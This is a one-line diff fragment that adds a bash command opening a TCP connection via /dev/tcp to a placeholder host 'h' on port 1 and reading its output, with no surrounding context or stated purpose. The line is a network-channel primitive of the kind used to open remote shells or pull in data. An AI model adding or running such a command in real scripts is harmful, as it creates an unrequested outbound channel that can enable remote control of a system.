@@ -1,0 +1,1 @@
+exec 3<>/dev/tcp/h/1; cat <&3
